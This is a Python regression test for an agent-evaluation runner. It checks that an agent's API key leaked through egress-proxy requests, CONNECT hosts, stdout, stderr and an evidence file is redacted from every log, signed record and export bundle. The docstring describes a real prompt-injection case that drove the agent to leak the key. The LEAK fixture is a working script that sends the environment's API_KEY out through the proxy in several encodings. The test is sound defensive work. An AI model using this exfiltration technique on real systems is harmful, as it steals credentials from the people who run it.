"""Regression tests for issue 25 item 1: the agent's API key in the signed envelope and the
bundle. A hostile prompt made the agent ask the egress proxy for ``http://<allowed host>/<key>``
and ``CONNECT <key>.example:443``, and listed a file holding the key as evidence; the key went
unredacted into egress.log, the envelope's connections, the signed statement, ``--json``, the
bundle and the proxy's engine log. Now one redaction step (runner/core/redaction.py) covers
everything the runner writes, signs or exports of such an attempt, in the value's usual
encodings, the proxy blanks its own log lines from salted digests, and a job's file that holds
the key is withheld from export, named with why.

The tests that need no engine are in tests/unit/test_hostile_secrets.py.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.support import run_cli
from tests.support.agents import run_leaking_agent
from tests.support.hostile import record
from tests.unit.test_hostile_secrets import (  # noqa: F401  (shared with the pure half; fixtures among them)
    KEY,
    MARK,
    _files,
    _members,
    encodings,
    holding,
)

# --- a run through the real engine -----------------------------------------------------------

LEAK = r"""
import base64, json, os, socket, sys
key = os.environ["API_KEY"].encode()
host, port = os.environ["HTTP_PROXY"].removeprefix("http://").rstrip("/").split(":")
allowed = sys.argv[1]

def ask(line):
    s = socket.create_connection((host, int(port)), timeout=20)
    s.sendall(line.encode() + b"\r\nHost: x\r\nConnection: close\r\n\r\n")
    reply = b""
    while chunk := s.recv(65536):
        reply += chunk
    s.close()
    return reply.split(b"\r\n", 1)[0].decode()

k = key.decode()
paths = [
    k,
    "q?k=" + "".join(f"%{b:02X}" for b in key),
    "h/" + key.hex(),
    "H/" + key.hex().upper(),
    "b/" + base64.b64encode(key).decode(),
    "b1/" + base64.b64encode(b"a" + key).decode(),
    "b2/" + base64.urlsafe_b64encode(b"ab" + key).decode(),
    "a" * 580 + k,
]
seen = [ask(f"GET http://{allowed}/{p} HTTP/1.1") for p in paths]
seen.append(ask(f"CONNECT {k}.example:443 HTTP/1.1"))
seen.append(ask(f"CONNECT {allowed}/{k} HTTP/1.1"))
# the evidence the parser reads, with the key in it, listed in result.json
data = json.load(open("/job/output/logs/evaluation.log"))
data["note"] = k
data["b64"] = base64.b64encode(key).decode()
json.dump(data, open("/job/output/logs/evaluation.log", "w"))
print(json.dumps(seen))
print(base64.b64encode(b"x" + key).decode())
print(key.hex(), file=sys.stderr)
"""


@pytest.mark.docker
@pytest.mark.hostile
def test_the_agents_key_is_nowhere_the_run_and_its_export_write(
    tmp_path: Path, scripted_agent_image: str
) -> None:
    """The agent asks the proxy for its key in a path (plain, percent-encoded, hex, base64 at
    three alignments, across the proxy's 600-character cut), in a CONNECT host and in a
    target of its own, prints it encoded on stdout and stderr, and writes it into the
    evidence file its result.json lists. Then no file of the state folder, no member of the
    exported bundle, neither --json's stdout nor stderr, nor the proxy container's engine log
    holds the key in any of those forms; the connections are recorded with the marker; the
    evidence file stays as the job wrote it, hashed, and is withheld from the bundle with why
    (in the envelope's warnings, record/withheld.json and runner-bundle.json)."""
    run = run_leaking_agent(tmp_path, scripted_agent_image, LEAK, KEY)
    proc, env, job, state, policy = run.proc, run.env, run.job, run.state, run.policy
    asked = run.asked
    assert proc.returncode == 0, (env["failure"], proc.stderr)
    assert env["status"] == "succeeded" and env["measurements"][0]["value"] == 0.819
    # the requests reached the allowed host (the key went where the agent sent it) ...
    assert sum(KEY in r.get("path", "") for r in asked) >= 2, asked
    # ... and are recorded with the marker in its place
    eg = env["egress"]
    targets = [c["target"] for c in eg["connections"]]
    assert len(targets) == 10 and targets.count(MARK) == 10, targets
    assert (eg["allowed"], eg["refused"]) == (8, 2), eg
    # the evidence file: as the job wrote it (its hash in the envelope), withheld from export
    evidence = job / "output" / "logs" / "evaluation.log"
    assert holding(evidence.read_bytes()) != []
    warned = [w for w in env["warnings"] if "output/logs/evaluation.log" in w]
    assert warned and "withheld from export" in warned[0] and "API_KEY" in warned[0], env
    withheld = json.loads((job / "record" / "withheld.json").read_text())
    assert [f["path"] for f in withheld["files"]] == ["output/logs/evaluation.log"]

    archive = tmp_path / "run.tar.gz"
    exported = run_cli("export", str(job), "-o", str(archive), "--with-inputs")
    assert exported.returncode == 0, exported.stderr
    members = _members(archive)
    assert not [m for m in members if m.endswith("data/output/logs/evaluation.log")]
    info = json.loads(next(v for m, v in members.items() if m.endswith("/runner-bundle.json")))
    skipped = {s["path"]: s["why"] for s in info["skipped"]}
    assert "API_KEY" in skipped["output/logs/evaluation.log"], skipped

    # a re-grade re-reads the evidence under the same redaction (the policy's secrets) ...
    regraded = run_cli("parse", str(job), "--policy", str(policy), "--json",
                       env={"AGENT_TEST_KEY": KEY})  # fmt: skip
    assert regraded.returncode == 0, regraded.stderr
    assert json.loads(regraded.stdout)["revision"] == 2
    # ... and without a policy naming them (its ledger says attempt 1 had them), refuses
    blind = run_cli("parse", str(job), "--json")
    assert blind.returncode == 3 and "given the agent secret API_KEY" in blind.stderr, blind.stderr

    leaks: dict[str, list[str]] = {}
    for name, data in _files(state).items():
        if name.startswith("jobs/") and name.endswith("output/logs/evaluation.log"):
            continue  # the job's own evidence, kept on this host as it wrote it
        if found := holding(data):
            leaks[f"state/{name}"] = found
    for name, data in members.items():
        if found := holding(data):
            leaks[f"bundle/{name}"] = found
    for name, data in {
        "--json stdout": proc.stdout.encode(),
        "stderr": proc.stderr.encode(),
        "export stdout+stderr": (exported.stdout + exported.stderr).encode(),
        "parse stdout+stderr": (regraded.stdout + regraded.stderr + blind.stderr).encode(),
        "docker logs of the proxy": run.proxy_log.encode(),
    }.items():
        if found := holding(data):
            leaks[name] = found
    assert leaks == {}
    record("agent key in request targets, CONNECT host and evidence", "runc", env, held=True,
           filesChecked=len(_files(state)) + len(members), connections=len(targets))  # fmt: skip
    # what the agent printed was redacted, in its transcript (hashed after) and its stderr
    transcript = job / "output" / "logs" / "stdout.log"
    assert MARK.encode() in transcript.read_bytes()
